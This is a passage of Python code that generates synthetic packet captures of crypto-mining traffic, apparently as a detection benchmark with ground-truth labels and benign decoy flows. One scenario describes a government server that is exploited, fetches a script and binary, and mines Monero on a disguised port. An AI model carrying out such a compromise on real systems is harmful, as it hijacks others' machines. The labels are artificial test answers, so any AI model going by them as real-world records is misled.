                                agent="cgminer/4.9.0", login="ltcfarm.l3plus-17", rtt=0.071, server_eol="\r\n",
                                nbits="1a01cd2d", coin="ltc", epoch0=fb.epoch0)
    f = fb.flow(0, l3_link, l3, 40338, ltc, 25, random.Random(12), 0.071, msgs, s2, e2 + 0.4, log=log)
    fb.sessions.append(truth_session(f, log, b, dialect="stratum", coin="LTC", algorithm="scrypt",
                                     worker="l3plus-17", wallet=None, login="ltcfarm.l3plus-17", agent="cgminer/4.9.0",
                                     pool=None, pool_evidence=[], true_hashrate=H2, unit="H/s",
                                     starts_mid_session=False, line_ending="\r\n (pool side)", vlan=[300, 31],
                                     notes="nothing names the algorithm: scrypt shows only in mining.notify (Litecoin-"
                                           "scale nbits 1a01cd2d, coinbase height ~2.07M, /ViaBTC/ tag); agent and "
                                           "port 25 say nothing"))
    # --- negatives: intranet HTTP, TLS
    f = fb.flow(0, pc_link, pc, 52410, web, 80, random.Random(13), 0.021,
                neg_http_get(rng, "intranet.example.edu", 0.9) + neg_http_get(rng, "intranet.example.edu", 14.2, "/news"),
                0.85, 20.0)
    fb.negative(f, "http", "browser GET of an intranet page")
    f = fb.flow(0, pc_link, pc, 52418, tlss, 443, random.Random(14), 0.033, neg_tls(rng, "updates.example.com", 120.0, 0.033, 4),
                119.96, 140.0)
    fb.negative(f, "tls", "TLS 1.2 handshake and application data records, SNI updates.example.com")
    return fb


def file_equihash_sll() -> FileBuilder:
    cap = Capture("zcash-equihash-sll-be.pcap", "pcap", [Interface(113, "any")], endian=">")
    fb = FileBuilder(cap, epoch(2018, 1, 17, 9, 42, 11),
                     "EWBF 0.3.4b Equihash miner on flypool (mining.set_target, pool host in mining.subscribe), "
                     "big-endian pcap, Linux SLL; JSON-RPC echo on loopback, Zabbix jsrpc and TLS negatives",
                     ["pcap-be-us", "linux-sll", "message-split", "overlapping-retransmission", "mining.set_target",
                      "subscribe-host-port", "mining.extranonce.subscribe", "loopback-in-sll"])
    gw = "f4:8e:38:00:12:01"
    link = sll_link("70:85:c2:3d:aa:10", gw)
    lo = sll_link("", "", loopback=True)
    rig = Host("172.16.5.23", 128, 0x2200, 256)
    fly = Host("198.51.100.23", 50, 0x6100, 235)
    zbx_c = Host("172.16.5.30", 64, 0x0C00, 501)
    zbx = Host("198.51.100.90", 59, 0x0D00, 227)
    tls_s = Host("198.51.100.143", 55, 0x0E00, 1050)
    loc = Host("127.0.0.1", 64, 0x4000, 512)
    loc_s = Host("127.0.0.1", 64, 0x4100, 512)
    rng = random.Random(2002)
    b = fb.base_ns
    H = 2000.0
    target = "0004189374bc6a7ef9db22d0e5604189374bc6a7ef9db22d0e5604189374bc6a"
    start, end = 1.0, 1.0 + 900.0
    zwallet = base58check(b"\x1c\xb8", "minesweep sample zcash rig4")
    login = zwallet + ".rig4"
    msgs, log = sim_equihash(rng, start=start + 0.1, end=end, hashrate=H, target=target, login=login,
                             agent="EWBF 0.3.4b", host="eu1-zcash.flypool.org", port=3333, rtt=0.038,
                             overlap_at=31, epoch0=fb.epoch0)
    f = fb.flow(0, link, rig, 49822, fly, 3333, random.Random(21), 0.038, msgs, start, end + 0.5, log=log)
    fb.sessions.append(truth_session(f, log, b, dialect="stratum", coin="ZEC", algorithm="equihash_200_9",
                                     worker="rig4", wallet=zwallet, login=login,
                                     agent="EWBF 0.3.4b", pool="eu1-zcash.flypool.org", pool_evidence=["mining.subscribe"],
                                     true_hashrate=H, unit="Sol/s", starts_mid_session=False, line_ending="\n"))
    uid = "%s-%s-%s-%s-%s" % (hx(rng, 4), hx(rng, 2), hx(rng, 2), hx(rng, 2), hx(rng, 6))
    echo = [Msg(3.2, 0, jdump({"jsonrpc": "2.0", "method": "echo", "params": ["Testing!"], "id": uid}, False).encode()),
            Msg(3.2004, 1, jdump({"jsonrpc": "2.0", "result": ["Testing!"], "id": uid}, False).encode())]
    f = fb.flow(0, lo, loc, 36646, loc_s, 8080, random.Random(22), 0.0001, echo, 3.1, 3.5)
    fb.negative(f, "jsonrpc-echo", "plain JSON-RPC 2.0 'echo' over raw TCP on loopback (not mining)")
    bodies = []
    zauth = hx(rng, 16)
    for i in range(6):
        rid = 103796 + i
        req = jdump({"jsonrpc": "2.0", "method": "zabbix.status", "params": {}, "auth": zauth, "id": rid}, False)
        bodies.append((req.encode(), jdump({"jsonrpc": "2.0", "result": {"result": True, "message": ""}, "id": rid}).encode()))
    zm = neg_jsonrpc_http(rng, 40.0, "zabbix.example.edu", "/zabbix/jsrpc.php?output=json-rpc", bodies,
                          "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_2) AppleWebKit/537.36 (KHTML, like Gecko) "
                          "Chrome/63.0.3239.132 Safari/537.36",
                          (30, 90), "application/json-rpc", server_hdr="Server: Apache/2.4.25 (Debian)\r\n")
    f = fb.flow(0, link, zbx_c, 50211, zbx, 80, random.Random(23), 0.018, zm, 39.95, 600.0)
    fb.negative(f, "jsonrpc-http", "Zabbix frontend jsrpc.php JSON-RPC polling over HTTP")
    f = fb.flow(0, link, rig, 49830, tls_s, 443, random.Random(24), 0.029, neg_tls(rng, "api.github.com", 300.0, 0.029, 6), 299.96, 330.0)
    fb.negative(f, "tls", "TLS records to api.github.com from the mining rig")
    return fb


def file_ethereum_rawip() -> FileBuilder:
    cap = Capture("ethereum-ethproxy-nicehash-rawip.pcap.gz", "pcap", [Interface(101, "tun0")], gz=True)
    fb = FileBuilder(cap, epoch(2021, 5, 11, 22, 5, 40),
                     "Claymore eth-proxy (eth_submitLogin/getWork/submitWork/submitHashrate) to ethermine:4444 and "
                     "NBMiner EthereumStratum/1.0.0 to NiceHash on port 443 (plaintext), captured on an OpenVPN "
                     "tun (raw IP), gzip-compressed pcap; web3 eth_blockNumber polling as hard negative",
                     ["pcap-le-us", "gzip", "raw-ip", "dns-before-session", "messages-per-segment", "port-443",
                      "port-4444", "eth_submitHashrate"])
    rng = random.Random(3003)
    b = fb.base_ns
    clay = Host("10.8.0.6", 128, 0x0400, 1024)
    nbm = Host("10.8.0.9", 128, 0x3C00, 1024)
    dapp = Host("10.8.0.12", 64, 0x7700, 502)
    geth = Host("10.8.0.1", 64, 0x7800, 510)
    resolver = Host("10.8.0.1", 64, 0x7900, 0)
    ethm = Host("203.0.113.44", 48, 0x0100, 229)
    nh = Host("203.0.113.91", 52, 0x0200, 501)
    fb.negatives.append(dns_exchange(cap, b, 0, raw_link, 0.4, clay, resolver, 60421, 0x3E11, "eu1.ethermine.org", "A", ["203.0.113.44"]))
    H = 180e6
    start, end = 0.5, 0.5 + 1200.0
    wallet = eth_address("minesweep sample claymore rig2")
    msgs, log = sim_ethproxy(rng, start=start + 0.1, end=end, hashrate=H, share_work=2e9, login=wallet + ".rig2", rtt=0.052)
    f = fb.flow(0, raw_link, clay, 57726, ethm, 4444, random.Random(31), 0.052, msgs, start, end + 0.5, log=log)
    fb.sessions.append(truth_session(f, log, b, dialect="ethproxy", coin="ETH", algorithm="ethash", worker="rig2",
                                     wallet=wallet, login=wallet + ".rig2", agent=None, pool="eu1.ethermine.org",
                                     worker_field="eth1.0",
                                     notes="Claymore's JSON 'worker' field holds its default 'eth1.0'; the pool-side "
                                           "worker name is the login suffix 'rig2'",
                                     pool_evidence=["dns"], true_hashrate=H, unit="H/s", starts_mid_session=False,
                                     line_ending="\n"))
    H2 = 250e6
    s2, e2 = 12.0, 12.0 + 900.0
    nh_wallet = base58check(b"\x05", "minesweep sample nicehash rig01")
    login2 = nh_wallet + ".rig01"
    msgs, log = sim_ethstratum(rng, start=s2 + 0.1, end=e2, hashrate=H2, diff=0.5, login=login2, agent="NBMiner/39.5", rtt=0.061)
    f = fb.flow(0, raw_link, nbm, 50644, nh, 443, random.Random(32), 0.061, msgs, s2, e2 + 0.5, log=log)
    fb.sessions.append(truth_session(f, log, b, dialect="ethstratum", coin="ETH", algorithm="ethash", worker="rig01",
                                     wallet=nh_wallet, login=login2, agent="NBMiner/39.5",
                                     pool=None, pool_evidence=[], true_hashrate=H2, unit="H/s",
                                     starts_mid_session=False, line_ending="\n"))
    bodies = []
    blk = 12417000
    for i in range(70):
        blk += rng.choice((0, 1, 1, 2))
        rid = 83 + i
        bodies.append((jdump({"jsonrpc": "2.0", "method": "eth_blockNumber", "params": [], "id": rid}).encode(),
                       (jdump({"jsonrpc": "2.0", "id": rid, "result": hex(blk)}) + "\n").encode()))
    wm = neg_jsonrpc_http(rng, 5.0, "10.8.0.1:8545", "/", bodies, "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", (14, 16),
                          server_hdr="Vary: Origin\r\n")
    f = fb.flow(0, raw_link, dapp, 43118, geth, 8545, random.Random(33), 0.0008, wm, 4.95, 1150.0)
    fb.negative(f, "web3-jsonrpc-http", "dApp backend polling geth eth_blockNumber over HTTP every ~15 s")
    return fb


def file_monero_pcapng() -> FileBuilder:
    cap = Capture("monero-xmrig-ipv6.pcapng", "pcapng", [Interface(1, "eth0"), Interface(276, "any", tsresol=9)])
    fb = FileBuilder(cap, epoch(2024, 2, 20, 3, 30, 0),
                     "XMRig 6.21.0 (RandomX rx/0, keepalived) over IPv6 with a hop-by-hop header to nanopool:14444 "
                     "on interface 0 (Ethernet); XMRig 2.13.1 with escaped slashes to port 45700 with an IPv4-"
                     "fragmented login on interface 1 (Linux SLL2, ns timestamps); monero-wallet-rpc get_balance negative",
                     ["pcapng", "two-interfaces", "ethernet", "linux-sll2", "ipv6", "ipv6-hop-by-hop",
                      "ipv4-fragments", "dns-before-session", "escaped-slashes", "keepalived", "port-14444",
                      "port-45700", "difficulty-change"])
    rng = random.Random(4004)
    b = fb.base_ns
    e0 = ether_link("52:54:00:6a:01:25", "00:00:5e:00:01:01")
    s1 = sll2_link("2c:f0:5d:19:a0:03", "00:1b:21:aa:bb:01", 3)
    srv = Host("2001:db8:100::25", 64, 0, 501)
    res6 = Host("2001:db8:100::53", 64, 0, 0)
    nano = Host("2001:db8:feed::14", 52, 0, 227)
    pc = Host("192.168.77.20", 128, 0x6A00, 1026)
    mg = Host("198.51.100.77", 53, 0x1200, 235)
    wal = Host("127.0.0.1", 64, 0x2E00, 512)
    fb.negatives.append(dns_exchange(cap, b, 0, e0, 0.3, srv, res6, 44310, 0x7B2C, "xmr-eu1.nanopool.org", "AAAA", ["2001:db8:feed::14"]))
    H = 9500.0
    start, end = 0.5, 0.5 + 1080.0
    wallet = monero_address("minesweep sample xmrig srv-db02")
    msgs, log = sim_xmrig(rng, start=start + 0.1, end=end, hashrate=H, diffs=[(0, 80000), (start + 420.0, 120000)],
                          login=wallet + ".srv-db02", agent="XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",
                          algos=XMRIG6_ALGOS, algo="rx/0", rigid="srv-db02", escape_slashes=False, keepalive=20.0,
                          rtt=0.034, height0=3087654, epoch0=fb.epoch0)
    f = fb.flow(0, e0, srv, 45872, nano, 14444, random.Random(41), 0.034, msgs, start, end + 0.4, client_hbh=True, log=log)
    fb.sessions.append(truth_session(f, log, b, dialect="monero", coin="XMR", algorithm="rx/0", worker="srv-db02",
                                     wallet=wallet, login=wallet + ".srv-db02",
                                     agent="XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",
                                     pool="xmr-eu1.nanopool.org", pool_evidence=["dns"], true_hashrate=H, unit="H/s",
                                     starts_mid_session=False, line_ending="\n", interface=0,
                                     ipv6_extension_headers=["hop-by-hop (client to server)"]))
    H2 = 1100.0
    s2, e2 = 6.0, 6.0 + 900.0
    agent2 = "XMRig/2.13.1 (Windows NT 10.0; Win64; x64) libuv/1.24.0 msvc/2017"
    msgs, log = sim_xmrig(rng, start=s2 + 0.1, end=e2, hashrate=H2, diffs=[(0, 10000)], login="accounting-pc7@example.org",
                          agent=agent2, algos=XMRIG2_ALGOS, algo="cn/r", rigid=None, escape_slashes=True, keepalive=60.0,
                          rtt=0.057, height0=1787001, epoch0=fb.epoch0, frag_login=256, with_seed=False)
    f = fb.flow(1, s1, pc, 50331, mg, 45700, random.Random(42), 0.057, msgs, s2, e2 + 0.5, log=log)
    fb.sessions.append(truth_session(f, log, b, dialect="monero", coin="XMR", algorithm="cn/r", worker=None, wallet=None,
                                     login="accounting-pc7@example.org", agent=agent2, agent_on_wire=agent2.replace("/", "\\/"),
                                     pool=None, pool_evidence=[], true_hashrate=H2, unit="H/s", starts_mid_session=False,
                                     line_ending="\n", interface=1, ipv4_fragmented="login request (256-byte fragments)"))
    bodies = []
    for i in range(5):
        balance = {"balance": 1530000000000 + i, "blocks_to_unlock": 0, "multisig_import_needed": False,
                   "unlocked_balance": 1530000000000}
        bodies.append((jdump({"jsonrpc": "2.0", "id": "0", "method": "get_balance", "params": {"account_index": 0}}).encode(),
                       jdump({"id": "0", "jsonrpc": "2.0", "result": balance}, False).encode()))
    wm = neg_jsonrpc_http(rng, 200.0, "127.0.0.1:18082", "/json_rpc", bodies, "python-requests/2.31.0", (60, 120))
    f = fb.flow(1, sll2_link("00:00:00:00:00:00", "00:00:00:00:00:00", 1), wal, 39552, Host("127.0.0.1", 64, 0x2F00, 512), 18082,
                random.Random(43), 0.0002, wm, 199.95, 800.0)
    fb.negative(f, "wallet-rpc", "monero-wallet-rpc get_balance JSON-RPC over HTTP on loopback")
    return fb


def file_gbt_null() -> FileBuilder:
    cap = Capture("bitcoin-gbt-getwork-null-ns.pcap", "pcap", [Interface(0, "utun3")], nano=True)
    fb = FileBuilder(cap, epoch(2018, 8, 3, 16, 43, 31),
                     "bfgminer getblocktemplate/submitblock over HTTP port 80 and cgminer getwork over HTTP 8332 "
                     "(responses carry X-Stratum), BSD null loopback (macOS utun), nanosecond pcap; bitcoind "
                     "getbalance wallet RPC and plain HTTP negatives",
                     ["pcap-le-ns", "null-loopback", "http", "getblocktemplate", "getwork", "x-stratum",
                      "x-mining-extensions", "port-80", "http-keep-alive"])
    rng = random.Random(5005)
    b = fb.base_ns
    mac1 = Host("10.66.0.2", 64, 0x0600, 2048)
    mac2 = Host("10.66.0.3", 64, 0x0700, 2048)
    eli = Host("198.51.100.8", 49, 0x5000, 453)
    slush = Host("198.51.100.33", 52, 0x5100, 115)
    node = Host("10.66.0.1", 64, 0x5200, 1024)
    web = Host("198.51.100.81", 55, 0x5300, 235)
    H = 4.73e12
    start, end = 0.5, 0.5 + 720.0
    addr = base58check(b"\x00", "minesweep sample bfgminer gbt")
    msgs, log = sim_gbt(rng, start=start + 0.1, end=end, hashrate=H, share_diff=8192, host="mining.eligius.st",
                        auth=addr + ":x", agent="bfgminer/5.5.0", rtt=0.089, epoch0=fb.epoch0)
    f = fb.flow(0, null_link, mac1, 50496, eli, 80, random.Random(51), 0.089, msgs, start, end + 0.5, log=log)
    fb.sessions.append(truth_session(f, log, b, dialect="gbt", coin="BTC", algorithm="sha256d", worker=None, wallet=addr,
                                     login=addr, agent="bfgminer/5.5.0", pool="mining.eligius.st",
                                     pool_evidence=["http-host"], true_hashrate=H, unit="H/s", starts_mid_session=False,
                                     line_ending="HTTP", http_method="getblocktemplate/submitblock"))
    H2 = 672e6  # two ASICMiner Block Erupters (336 MH/s each) on one cgminer
    s2, e2 = 3.0, 3.0 + 900.0
    msgs, log = sim_getwork(rng, start=s2 + 0.1, end=e2, hashrate=H2, host="api.bitcoin.cz:8332", auth="labminer.erupter1:x",
                            agent="cgminer/2.7.5", x_stratum="stratum+tcp://stratum.bitcoin.cz:3333", rtt=0.034,
                            epoch0=fb.epoch0)
    f = fb.flow(0, null_link, mac2, 50498, slush, 8332, random.Random(52), 0.034, msgs, s2, e2 + 0.5, log=log)
    fb.sessions.append(truth_session(f, log, b, dialect="gbt", coin="BTC", algorithm="sha256d", worker="erupter1",
                                     wallet=None, login="labminer.erupter1", agent="cgminer/2.7.5", pool="api.bitcoin.cz",
                                     pool_evidence=["http-host", "x-stratum"], true_hashrate=H2, unit="H/s",
                                     starts_mid_session=False, line_ending="HTTP", http_method="getwork",
                                     x_stratum="stratum+tcp://stratum.bitcoin.cz:3333"))
    bodies = []
    for i in range(4):
        bodies.append((jdump({"jsonrpc": "1.0", "id": "curltest", "method": "getbalance", "params": []}, False).encode(),
                       (jdump({"result": 0.04213 + i * 0.0001, "error": None, "id": "curltest"}) + "\n").encode()))
    wm = neg_jsonrpc_http(rng, 60.0, "10.66.0.1:8332", "/", bodies, "curl/7.54.0", (100, 160), "text/plain", auth="rpcuser:hunter2")
    f = fb.flow(0, null_link, mac1, 50512, node, 8332, random.Random(53), 0.0006, wm, 59.95, 600.0)
    fb.negative(f, "wallet-rpc", "bitcoind wallet JSON-RPC getbalance over HTTP 8332 (same port as getwork)")
    f = fb.flow(0, null_link, mac2, 50520, web, 80, random.Random(54), 0.041, neg_http_get(rng, "www.example.org", 30.0), 29.95, 45.0)
    fb.negative(f, "http", "browser GET on port 80 next to the getblocktemplate session")
    return fb


def file_midsession_sll2() -> FileBuilder:
    cap = Capture("stratum-midsession-5222-sll2.pcap", "pcap", [Interface(276, "any")])
    fb = FileBuilder(cap, epoch(2022, 11, 15, 14, 0, 0),
                     "capture starting mid-session: only mining.notify / mining.submit / results of an S19-class "
                     "SHA-256 miner tunnelled on port 5222 (no subscribe/authorize/set_difficulty, no DNS); "
                     "Rocket.Chat DDP websocket (JSON msg/method/params/id) hard negative; Linux SLL2",
                     ["pcap-le-us", "linux-sll2", "starts-mid-session", "port-5222", "difficulty-unobserved",
                      "websocket-json-chat"])
    rng = random.Random(6006)
    b = fb.base_ns
    link = sll2_link("98:fa:9b:10:20:30", "00:1a:8c:f0:00:01", 2)
    asic = Host("10.44.7.19", 64, 0x0900, 1024)
    pool = Host("192.0.2.55", 47, 0x0A00, 235)
    chat_c = Host("10.44.7.33", 128, 0x1400, 1026)
    chat_s = Host("192.0.2.80", 58, 0x1500, 501)
    H = 110e12
    start, end = 0.0, 1200.0
    login = "corpfarm.s19pro-3"
    msgs, log = sim_stratum_sha(rng, start=start, end=end, hashrate=H, diffs=[(0, 262144)], algo="sha256d", agent=None,
                                login=login, rtt=0.024, mid_session=True, epoch0=fb.epoch0)
    # the first captured packet is a server job; the flow is neither opened nor closed in the capture
    f = fb.flow(0, link, asic, 38852, pool, 5222, random.Random(61), 0.024, msgs, None, None, log=log)
    fb.sessions.append(truth_session(f, log, b, dialect="stratum", coin="BTC", algorithm="sha256d", worker="s19pro-3",
                                     wallet=None, login=login, agent=None, pool=None, pool_evidence=[], true_hashrate=H,
                                     unit="H/s", starts_mid_session=True, line_ending="\n"))
    f = fb.flow(0, link, chat_c, 51544, chat_s, 3000, random.Random(62), 0.012, neg_chat_ws(rng, 4.0, 1190.0, "chat.example.com:3000"),
                3.95, 1195.0)
    fb.negative(f, "websocket-chat", "long-lived Rocket.Chat DDP websocket: JSON msg/method/params/id, pings every 25 s")
    return fb


# ----------------------------------------------------------------------------------------------
# the campus: who owns each miner, deliberate or compromised

# The sample address registry (cidr, unit, category, region, contact) written to campus-registry.csv.
# Blocks are private (RFC 1918) and documentation (RFC 5737, RFC 3849) space; units are fictitious.
CAMPUS_REGISTRY: list[tuple[str, str, str, str, str]] = [
    ("10.10.0.0/16", "Example City Government Data Centre", "government", "Riverside", "noc@city.gov.example"),
    ("2001:db8:10::/48", "Example City Government Data Centre", "government", "Riverside", "noc@city.gov.example"),
    ("10.11.0.0/20", "Example Provincial Bureau of Statistics", "government", "Lakeside", "it@stats.gov.example"),
    ("10.12.4.0/22", "Example County Public Security Bureau", "government", "Hillcrest", ""),
    ("10.20.0.0/16", "Example University of Technology", "education", "Riverside", "netops@ut.example.edu"),
    ("10.20.14.64/26", "Example University of Technology School of Physics GPU Laboratory", "education",
     "Riverside", "gpulab@phys.ut.example.edu"),
    ("2001:db8:20::/48", "Example University of Technology", "education", "Riverside", "netops@ut.example.edu"),
    ("10.21.0.0/16", "Example Normal University", "education", "Lakeside", "nic@normal.example.edu"),
    ("172.20.8.0/24", "Example No. 3 Middle School", "education", "Hillcrest", ""),
    ("10.30.0.0/16", "Example Institute of Applied Genomics", "research", "Riverside", "it@genomics.example.org"),
    ("2001:db8:30::/48", "Example Institute of Applied Genomics", "research", "Riverside", "it@genomics.example.org"),
    ("10.31.0.0/18", "Example Academy of Agricultural Sciences", "research", "Lakeside", "net@agri.example.org"),
    ("10.40.0.0/16", "Example State Grid Riverside Power Supply Company", "soe", "Riverside", "soc@grid.example.com"),
    ("2001:db8:40::/48", "Example State Grid Riverside Power Supply Company", "soe", "Riverside", "soc@grid.example.com"),
    ("10.41.0.0/17", "Example Provincial Railway Logistics Group", "soe", "Lakeside", "it@rail.example.com"),
    ("10.50.0.0/16", "Example First People's Hospital", "healthcare", "Riverside", "infosec@hospital1.example.org"),
    ("2001:db8:50::/48", "Example First People's Hospital", "healthcare", "Riverside", "infosec@hospital1.example.org"),
    ("10.51.0.0/20", "Example City Centre for Disease Control and Prevention", "healthcare", "Riverside", ""),
    ("172.16.0.0/16", "Example Logistics Co Ltd", "enterprise", "Riverside", "it@logistics.example.com"),
    ("172.17.0.0/16", "Example Software Technology Co Ltd", "enterprise", "Lakeside", "ops@software.example.com"),
    ("2001:db8:60::/48", "Example Software Technology Co Ltd", "enterprise", "Lakeside", "ops@software.example.com"),
    ("172.24.0.0/14", "Example Telecom Riverside Broadband", "residential", "Riverside", "abuse@telecom.example.net"),
    ("2001:db8:8a00::/40", "Example Telecom Riverside Broadband", "residential", "Riverside", "abuse@telecom.example.net"),
    ("172.28.0.0/15", "Example Cable Lakeside Home Internet", "residential", "Lakeside", "abuse@cable.example.net"),
    ("203.0.113.0/25", "Example Cloud Hosting Ltd", "hosting", "", "abuse@cloud.example.net"),
    ("2001:db8:c100::/40", "Example Cloud Hosting Ltd", "hosting", "", "abuse@cloud.example.net"),
    ("198.51.100.192/26", "Example VPS Provider", "hosting", "", "abuse@vps.example.net"),
    ("10.99.0.0/16", "Unrecorded legacy allocation", "unknown", "", ""),
    ("192.168.0.0/16", "Site-local space (holder not recorded)", "unknown", "", ""),
]
PUBLIC_CATEGORIES = ["government", "education", "research", "soe", "healthcare"]
SIGNALS = ["inbound_server", "scanned_into", "outbound_scan", "fetched_script", "fetched_elf", "pool_dns",
           "disguised_port", "xmrig_agent", "cpu_algorithm", "shared_wallet_cross_unit", "rig_software",
           "gpu_or_asic_algorithm", "named_workers", "farm_same_account", "rig_hashrate"]
VERDICTS = ["institution_misuse", "compromised", "private"]


def registry_csv() -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["cidr", "unit", "category", "region", "contact"])
    w.writerows(CAMPUS_REGISTRY)
    return buf.getvalue().encode()


def registry_lookup(ip: str) -> tuple[str, str, str]:
    """(cidr, unit, category) of the longest registry prefix holding ``ip``."""
    addr = ipaddress.ip_address(ip)
    best = max((ipaddress.ip_network(r[0]) for r in CAMPUS_REGISTRY if addr in ipaddress.ip_network(r[0])),
               key=lambda n: n.prefixlen)
    row = next(r for r in CAMPUS_REGISTRY if ipaddress.ip_network(r[0]) == best)
    return row[0], row[1], row[2]


def host_mac(ip: str) -> str:
    return "02:" + ":".join(f"{b:02x}" for b in hashlib.sha256(ip.encode()).digest()[:5])


CAMPUS_GW = "00:1c:73:5e:00:01"


def out_link(ip: str, vlan: int) -> LinkFn:
    """Frames of a flow opened by the campus host ``ip`` (side 0 leaves the host)."""
    return ether_link(host_mac(ip), CAMPUS_GW, ((0x8100, vlan),))


def in_link(ip: str, vlan: int) -> LinkFn:
    """Frames of a flow opened from outside towards the campus host ``ip``."""
    return ether_link(CAMPUS_GW, host_mac(ip), ((0x8100, vlan),))


XMRIG_BOT_AGENT = "XMRig/6.16.4 (Linux x86_64) libuv/1.42.0 gcc/9.3.0"


def file_campus() -> FileBuilder:
    cap = Capture("campus.pcapng", "pcapng", [Interface(1, "span-core")])
    fb = FileBuilder(cap, epoch(2022, 3, 15, 1, 0, 0),
                     "45 minutes of a sample campus/regional network with units on their own VLANs (registry in "
                     "campus-registry.csv): a GPU farm of three rigs on one 2Miners account in a university lab /26, "
                     "an Antminer on AntPool in a state-owned enterprise, a hijacked government web server (scanned, "
                     "exploited, fetches x.sh and an ELF, XMRig on mine.c3pool.com:80), the same wallet on a hospital "
                     "server that scans outward (XMRig on :443 plaintext), a home GPU miner over IPv6; benign "
                     "browsing, web servers, ERP JSON-RPC and an Electrum wallet",
                     ["pcapng", "ethernet", "802.1Q", "ipv6", "dns-before-session", "registry", "overlapping-prefixes",
                      "inbound-server", "syn-scan-inbound", "syn-scan-outbound", "http-exploit", "script-download",
                      "elf-download", "shared-wallet", "gpu-farm-one-account", "disguised-port", "port-80", "port-443",
                      "mining.configure", "electrum-jsonrpc"])
    rng = random.Random(7007)
    b = fb.base_ns
    T = 2700.0
    ts0 = fb.epoch0
    V = {"gov": 110, "univ": 120, "lab": 124, "research": 130, "soe": 140, "hosp": 150, "ent": 160, "res": 180}
    # -- hosts
    gov_web = Host("10.10.3.20", 64, 0x2100, 501)
    gov_res = Host("10.10.0.53", 64, 0x0050, 0)
    gov_pc = Host("10.10.20.31", 128, 0x4400, 1026)
    rigs = [Host("10.20.14.71", 64, 0x1100, 502), Host("10.20.14.72", 64, 0x1200, 502), Host("10.20.14.73", 64, 0x1300, 502)]
    univ_res = Host("10.20.0.53", 64, 0x0051, 0)
    univ_web = Host("10.20.1.10", 64, 0x2200, 509)
    res_pc = Host("10.30.2.44", 128, 0x4500, 1026)
    res_res = Host("10.30.0.53", 64, 0x0052, 0)
    asic = Host("10.40.7.33", 64, 0x0900, 1024)
    soe_res = Host("10.40.0.53", 64, 0x0053, 0)
    erp_c = Host("10.40.5.20", 128, 0x4600, 1026)
    erp_s = Host("10.40.1.8", 64, 0x2300, 509)
    hosp = Host("10.50.8.15", 64, 0x2400, 501)
    hosp_res = Host("10.50.0.53", 64, 0x0054, 0)
    hosp_pc = Host("10.50.20.7", 128, 0x4700, 1026)
    ent_pc = Host("172.16.4.12", 128, 0x4800, 1026)
    ent_res = Host("172.16.0.53", 64, 0x0055, 0)
    home6 = Host("2001:db8:8a10:4::23", 64, 0, 1024)
    isp_res6 = Host("2001:db8:8a00::53", 64, 0, 0)
    wallet_pc = Host("172.24.9.87", 128, 0x4900, 1026)
    isp_res4 = Host("172.24.0.53", 64, 0x0056, 0)
    twominers = Host("192.0.2.20", 50, 0x0300, 235)
    antpool = Host("192.0.2.30", 47, 0x0400, 229)
    c3pool = Host("192.0.2.60", 49, 0x0500, 227)
    ethermine6 = Host("2001:db8:ff00::44", 52, 0, 229)
    scanner_raw = Host("203.0.113.45", 243, 0x0000, 1024)
    scanner = Host("203.0.113.45", 51, 0x6200, 502)
    dropper = Host("203.0.113.77", 50, 0x7100, 509)
    electrumx = Host("198.51.100.200", 53, 0x7200, 501)
    sites = {"www.wikipedia.org": Host("198.51.100.21", 55, 0x7300, 1040),
             "www.who.int": Host("198.51.100.60", 54, 0x7400, 1040),
             "login.microsoftonline.com": Host("198.51.100.71", 53, 0x7500, 1040),
             "www.bbc.co.uk": Host("198.51.100.88", 55, 0x7600, 1040),
             "news.example.com": Host("198.51.100.95", 56, 0x7700, 509)}
    expect: dict[str, tuple[str, str]] = {}  # ip -> (unit, category) as intended; checked against the registry

    def dns(link: LinkFn, t: float, client: Host, resolver: Host, port: int, name: str, qtype: str, ans: list[str]) -> None:
        fb.negatives.append(dns_exchange(cap, b, 0, link, t, client, resolver, port, rng.getrandbits(16), name, qtype, ans))

    sess_idx: dict[str, list[int]] = {}

    def add_session(key: str, f: Flow, log: SessionLog, **kw: Any) -> None:
        sess_idx.setdefault(key, []).append(len(fb.sessions))
        fb.sessions.append(truth_session(f, log, b, **kw))

    # -- a. three GPU rigs of the physics lab on one 2Miners account (EthereumStratum/1.0.0)
    farm_wallet = eth_address("minesweep sample campus gpu lab farm")
    rig_specs = [("rig01", "PhoenixMiner/5.9d", 262e6, 1.0, 14.0, 2660.0),
                 ("rig02", "T-Rex/0.25.8", 368e6, 2.0, 22.5, 2668.0),
                 ("rig03", "lolMiner 1.45", 188e6, 1.0, 31.2, 2675.0)]
    for i, (worker, agent, H, diff, start, end) in enumerate(rig_specs):
        rig = rigs[i]
        link = out_link(rig.ip, V["lab"])
        dns(link, start - 0.4, rig, univ_res, 40100 + 17 * i, "eth.2miners.com", "A", [twominers.ip])
        login = f"{farm_wallet}.{worker}"
        msgs, log = sim_ethstratum(rng, start=start + 0.1, end=end, hashrate=H, diff=diff, login=login, agent=agent,
                                   rtt=0.041 + 0.002 * i)
        f = fb.flow(0, link, rig, 50210 + 7 * i, twominers, 2020, random.Random(71 + i), 0.041 + 0.002 * i, msgs,
                    start, end + 0.5, log=log)
        add_session(rig.ip, f, log, dialect="ethstratum", coin="ETH", algorithm="ethash", worker=worker,
                    wallet=farm_wallet, login=login, agent=agent, pool="eth.2miners.com", pool_evidence=["dns"],
                    true_hashrate=H, unit="H/s", starts_mid_session=False, line_ending="\n", vlan=[V["lab"]])
        expect[rig.ip] = ("Example University of Technology School of Physics GPU Laboratory", "education")

    # -- b. an Antminer S17 Pro in the state-owned power company, bmminer on AntPool
    link = out_link(asic.ip, V["soe"])
    dns(link, 4.6, asic, soe_res, 38201, "ss.antpool.com", "A", [antpool.ip])
    H = 53e12
    msgs, log = sim_stratum_sha(rng, start=5.1, end=2694.0, hashrate=H, diffs=[(0, 262144)], algo="sha256d",
                                agent="bmminer/2.0.0", login="gridpower.s17pro-07", rtt=0.038, version_rolling=True,
                                epoch0=ts0, coinbase_tag="Mined by AntPool")
    f = fb.flow(0, link, asic, 46012, antpool, 3333, random.Random(74), 0.038, msgs, 5.0, 2694.5, log=log)
    add_session(asic.ip, f, log, dialect="stratum", coin="BTC", algorithm="sha256d", worker="s17pro-07", wallet=None,
